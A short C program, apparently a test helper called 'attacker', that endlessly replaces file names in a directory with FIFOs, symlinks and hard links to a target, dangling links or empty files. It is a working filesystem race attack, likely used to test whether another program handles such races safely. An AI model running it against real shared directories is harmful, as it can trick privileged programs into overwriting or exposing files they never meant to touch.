/*
 * In a directory of its own it changes what names stand for, again and again, until it is killed: a
 * FIFO, a symbolic link to the target, another name of the target, a link to nowhere, a file of its
 * own, nothing.
 *
 *     attacker DIRECTORY TARGET [NAME…]        without names: those that others make there
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

static const char planted[] = ".planted";

/* Whether there is something by that name now, which is to be renamed. */
static int plant(int what, const char *target)
{
    switch (what) {
    case 0:
        return mkfifo(planted, 0666) == 0;
    case 1:
        return symlink(target, planted) == 0;
    case 2:
        return link(target, planted) == 0;
    case 3:
        return symlink("nowhere", planted) == 0;
    default:
        return close(open(planted, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0666)) == 0;
    }
}

static void change(const char *name, const char *target)
{
    enum { WAYS = 5 };

    for (int what = 0; what < WAYS; what++)
        if (plant(what, target))
            (void)rename(planted, name);
    (void)unlink(name);
}

static void change_what_others_made(const char *target)
{
    DIR *list = opendir(".");
    const struct dirent *entry;

    while (list && (entry = readdir(list)))
        if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0)
            change(entry->d_name, target);
    if (list)
        (void)closedir(list);
}

int main(int count, char **arguments)
{
    (void)prctl(PR_SET_PDEATHSIG, SIGKILL);
    if (count < 3 || chdir(arguments[1]))
        return 1;
    puts("begun");
    (void)fflush(stdout);
    for (;;) {
        for (int i = 3; i < count; i++)
            change(arguments[i], arguments[2]);
        if (count == 3)
            change_what_others_made(arguments[2]);
    }
}
